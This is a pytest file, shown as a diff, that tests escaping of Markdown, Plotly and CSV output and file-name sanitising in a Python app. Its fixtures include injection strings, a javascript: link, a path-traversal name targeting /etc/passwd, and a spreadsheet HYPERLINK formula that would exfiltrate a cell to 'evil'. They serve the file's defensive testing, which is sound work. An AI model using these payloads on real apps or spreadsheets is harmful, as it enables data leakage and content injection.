@@ -1,0 +1,117 @@
+"""Names are data: Markdown escaping for the app, Plotly escaping, CSV cells that never run.
+
+``plain`` is checked against a CommonMark renderer (markdown-it-py, which rich
+already depends on): whatever the text, the rendered HTML holds no element and
+reads back as the text itself.
+"""
+
+import csv
+import html
+import io
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from teamsim._csvsafe import csv_cell, csv_text
+from teamsim._text import printable
+from teamsim.figures import plotly_text
+from teamsim_app.safe import file_name, plain, plain_lines
+
+from .conftest import ROOT
+
+markdown_it = pytest.importorskip("markdown_it")
+MD = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])
+
+HOSTILE = ["![t](http://127.0.0.1:9/x.png)", "**bold**", "<b>b</b>", "[l](javascript:alert(1))",
+           ":red[x]", "$x^2$", "`code`", "# h", "- item", "1. item", "> quote", "a | b", "~~s~~",
+           "&amp; &lt;", "<http://x>", "\\*", "line\nbreak", "_i_", "a -> b", ":smile:"]
+
+
+def rendered_text(markdown: str) -> str:
+    """Inline HTML of ``markdown`` with its one paragraph unwrapped; fails on any element."""
+    out = MD.renderInline(markdown)
+    assert "<" not in out, (markdown, out)  # no tag at all: no image, link, emphasis, code
+    return html.unescape(out)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_plain_renders_as_the_text_itself(text):
+    assert rendered_text(plain(text)).replace("\u2060", "") == printable(text)
+
+
+@given(st.text(max_size=40))
+def test_plain_any_text_renders_as_itself(text):
+    assert rendered_text(plain(text)).replace("\u2060", "") == printable(text)
+
+
+def test_plain_breaks_streamlit_shortcodes_and_arrows():
+    # emoji/icon shortcodes and typographic arrows are replaced after parsing: a joiner stops them
+    assert not re.search(r":[\w+-]+:", plain(":smile: :material/home: :streamlit:").replace("\\", ""))
+    assert "->" not in plain("a -> b").replace("\\", "")
+    assert plain("group:default/team") == "group\\:default\\/team"  # no joiner where none is needed
+
+
+def test_plain_breaks_bare_urls_and_emails():
+    # GFM turns bare URLs and e-mail addresses into links after parsing, escapes or not
+    text = plain("http://127.0.0.1:9/x.png WWW.example.com ann@example.com").replace("\\", "")
+    assert not re.search(r"://|www\.|@\w", text, re.IGNORECASE)
+
+
+def test_plain_lines_keeps_lines_and_escapes_each():
+    text = "bad.yaml:3: error: unknown tool '![x](http://h/x.png)'\n  fix: declare it"
+    lines = plain_lines(text).split("  \n")
+    assert len(lines) == 2
+    assert [rendered_text(x).replace("\u2060", "") for x in lines] == [
+        "bad.yaml:3: error: unknown tool '![x](http://h/x.png)'", "fix: declare it"]
+
+
+def test_file_name_is_a_plain_file_name():
+    assert file_name("![x](http://h/x.png)", ".yaml") == "x-http-h-x.png.yaml"
+    assert file_name("../../etc/passwd", ".csv") == "etc-passwd.csv"
+    assert file_name(None, "-report.json") == "scenario-report.json"
+
+
+@pytest.mark.parametrize("text, escaped", [
+    ("<b>x</b>", "&lt;b&gt;x&lt;/b&gt;"), ("a & b", "a &amp; b"), ("&lt;", "&amp;lt;"),
+    ('<a href="javascript:x">', '&lt;a href="javascript:x"&gt;'), ("Ann", "Ann")])
+def test_plotly_text(text, escaped):
+    assert plotly_text(text) == escaped
+    assert html.unescape(plotly_text(text)) == text  # what Plotly shows
+
+
+# ------------------------------------------------------------------------------------ CSV
+@pytest.mark.parametrize("cell, written", [
+    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("\n=x", "'\n=x"),
+    ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
+    ("Ann", "Ann"), ("a=b", "a=b"), ("", ""), (" =x", " =x"),
+])
+def test_csv_text_cells_never_start_a_formula(cell, written):
+    text = csv_text([{"name": cell, "n": 1}])
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows == [["name", "n"], [written, "1"]]
+    assert text.splitlines()[1].startswith('"')  # every text cell is quoted
+
+
+@pytest.mark.parametrize("number, written", [(-3, "-3"), (2.5, "2.5"), (-0.25, "-0.25"),
+                                             (True, "True"), (float("nan"), '""')])
+def test_csv_numbers_stay_numbers(number, written):
+    line = csv_text([{"x": number}]).splitlines()[1]
+    assert line == written  # unquoted: a spreadsheet reads a number (negative ones too)
+    assert csv_cell(number) == ("" if number != number else number)
+
+
+def test_csv_columns_order_and_missing_cells():
+    text = csv_text([{"a": 1}, {"b": "-x"}], columns=["b", "a", "c"])
+    assert text == '"b","a","c"\n"",1,""\n"\'-x","",""\n'
+    assert csv_text([{"a": 1}, {"b": 2}]).splitlines()[0] == '"a","b"'
+
+
+def test_every_app_download_goes_through_csv_text():
+    pages = (ROOT / "teamsim_app").glob("*.py")
+    offenders = [p.name for p in pages if ".to_csv(" in p.read_text() or "csv.writer" in p.read_text()]
+    assert offenders == []
+    assert all("csv_text(" in (ROOT / "teamsim_app" / f).read_text()
+               for f in ("team.py", "hiring.py", "network.py", "ownership.py"))
